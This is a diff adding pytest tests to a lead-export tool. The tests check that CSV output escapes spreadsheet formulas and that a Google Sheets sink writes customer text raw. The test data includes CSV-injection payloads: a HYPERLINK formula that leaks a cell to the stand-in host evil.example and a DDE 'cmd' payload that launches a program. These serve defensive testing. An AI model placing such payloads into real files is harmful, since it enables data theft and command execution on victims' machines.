@@ -268,6 +268,23 @@ async def test_csv_sink_one_row_per_lead_upserted(tmp_path: Path) -> None:
     assert sorted(p.name for p in path.parent.iterdir()) == ["leads.csv", "leads.csv.lock"]  # no temp left
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+async def test_csv_sink_never_writes_a_live_formula(tmp_path: Path, text: str) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would evaluate starts with an apostrophe instead."""
+    sink = CsvSink(tmp_path / "leads.csv")
+    await sink.write(batch("lead-x", name=text))
+    await sink.write(batch("lead-x", name=text, updated_at=T0 + timedelta(hours=1)))  # rewritten: escaped once
+    with (tmp_path / "leads.csv").open(encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    name = cells[len(LEAD_COLUMNS) + LEAD_COLUMNS.index("name")]
+    assert name.startswith("'") and name[1:].replace("\\|", "|") == text  # defusedcsv also escapes pipes (DDE)
+    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit()) for c in cells)
+
+
 # ---- webhook ---------------------------------------------------------------------------------------
 
 
@@ -348,6 +365,16 @@ async def test_sheet_sink_creates_header_and_updates_rows_in_place(sheets: tuple
     assert [r[0] for r in grid] == ["lead_id", "lead-s1", "lead-s2"]
     assert grid[1][1:3] == ["won", "Анна"] and grid[1][9] == "5990"
     assert fake.token_requests >= 1
+
+
+async def test_sheet_sink_writes_customer_text_raw(sheets: tuple[FakeSheets, Path]) -> None:
+    """The sheet is written RAW: a formula typed by a customer stays text and is not escaped twice."""
+    fake, creds = sheets
+    sink = SheetSink(creds, fake.spreadsheet_id, "Leads")
+    await sink.write(batch("lead-f1", name=FORMULAS[0]))
+    await sink.write(batch("lead-f1", name=FORMULAS[0], status=LeadStatus.WON))
+    assert fake.input_options and set(fake.input_options) == {"RAW"}
+    assert fake.sheets["Leads"][1][2] == FORMULAS[0]
 
 
 async def test_sheet_sink_creates_the_worksheet_when_missing(sheets: tuple[FakeSheets, Path]) -> None:
